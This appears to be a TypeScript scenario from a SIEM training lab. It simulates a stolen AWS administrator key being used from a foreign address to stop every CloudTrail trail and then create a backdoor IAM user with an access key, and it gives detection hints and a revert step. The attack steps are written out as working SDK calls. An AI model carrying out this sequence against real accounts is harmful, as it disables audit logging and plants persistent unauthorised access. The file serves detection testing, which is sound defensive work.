// Lab siem: the administrator's key was stolen. The attacker stops every trail, then creates a user and a key for
// later. Nothing after StopLogging reaches the trail's destinations: the detection has to come from the events
// delivered up to and including the StopLogging call itself.
import { CloudTrailClient, DescribeTrailsCommand, StopLoggingCommand, StartLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { IAMClient, CreateUserCommand, CreateAccessKeyCommand, DeleteAccessKeyCommand, DeleteUserCommand, ListAccessKeysCommand } from '@aws-sdk/client-iam';
import { STSClient, GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import type { Scenario } from '../src/engine/types.ts';
import type { LabSession } from '../src/engine/session.ts';
import { attempt } from './lib/attack.ts';
import { ADMIN, person, randomRogueIp } from '../labs/siem/company.ts';
import { keyOf, labEnv, MINUTE } from '../labs/siem/background.ts';
import { injecting, observeAttack, siemRun } from '../labs/siem/run.ts';

interface State { ip: string; creds: { accessKeyId: string; secretAccessKey: string }; start: number; stopped: string[]; user: string }

export const cloudtrailStopped: Scenario = {
  id: 'cloudtrail-stopped',
  title: "The administrator's stolen key stops CloudTrail, then plants a backdoor user",
  description: "With the administrator's stolen key, from a foreign address, the attacker looks up the trails, stops logging on each, then creates a user with an access key. What comes after StopLogging is never delivered.",
  techniques: ['T1562.008', 'T1136.003', 'T1098.001'],
  detections: ['seclab: CloudTrail Logging Stopped or Trail Deleted', 'SigmaHQ: AWS CloudTrail Important Change'],
  points: { blocked: 0, detected: 10 },
  async prepare(session: LabSession): Promise<State> {
    const creds = keyOf(session, ADMIN);
    if (!creds) throw new Error(`${ADMIN} has no access key to steal`);
    return { ip: randomRogueIp(), creds, start: 0, stopped: [], user: `svc-sync-${session.runId}` };
  },
  async inject(session, state) {
    const st = state as State;
    return injecting(session, st, async (run) => {
      const opts = { credentials: st.creds, sourceIp: st.ip, userAgent: 'Boto3/1.34.0 Python/3.11.4 Linux/6.5' };
      const ct = session.client(CloudTrailClient, opts);
      const iam = session.client(IAMClient, opts);
      const steps = [await attempt(session, 'who am I', () => session.client(STSClient, opts).send(new GetCallerIdentityCommand({})))];
      let trails: string[] = [];
      steps.push(await attempt(session, 'look up the trails', async () => {
        trails = ((await ct.send(new DescribeTrailsCommand({}))).trailList ?? []).map((t) => t.Name!).filter(Boolean);
      }));
      for (const name of trails) {
        const step = await attempt(session, `stop logging on trail ${name}`, () => ct.send(new StopLoggingCommand({ Name: name })));
        if (step.allowed) st.stopped.push(name);
        steps.push(step);
      }
      steps.push(await attempt(session, `create user ${st.user}`, () => iam.send(new CreateUserCommand({ UserName: st.user }))));
      steps.push(await attempt(session, `create an access key for ${st.user}`, () => iam.send(new CreateAccessKeyCommand({ UserName: st.user }))));
      return steps;
    });
  },
  async observe(session, steps, state) {
    const st = state as State;
    return observeAttack(session, await siemRun(session), st.start, steps, {
      what: 'CloudTrail being stopped',
      techniques: ['T1562'],
      tactics: ['defense-evasion'],
      isAttack: (e) => e.fields['sourceIPAddress'] === st.ip,
      deadlineMs: 15 * MINUTE,
      hint: 'The StopLogging call itself is the last event the trail delivers: a rule on eventSource cloudtrail.amazonaws.com and eventName StopLogging (or DeleteTrail) catches it.',
    });
  },
  async revert(session, state) {
    // The administrator, back at the office, turns logging on again and removes the backdoor.
    const st = state as State;
    const opts = { credentials: keyOf(session, ADMIN) ?? st.creds, sourceIp: person(labEnv(session), ADMIN).officeIp };
    const ct = session.client(CloudTrailClient, opts);
    for (const name of st.stopped) await ct.send(new StartLoggingCommand({ Name: name })).catch(() => undefined);
    const iam = session.client(IAMClient, opts);
    const keys = await iam.send(new ListAccessKeysCommand({ UserName: st.user })).catch(() => undefined);
    for (const k of keys?.AccessKeyMetadata ?? []) await iam.send(new DeleteAccessKeyCommand({ UserName: st.user, AccessKeyId: k.AccessKeyId! })).catch(() => undefined);
    await iam.send(new DeleteUserCommand({ UserName: st.user })).catch(() => undefined);
  },
};
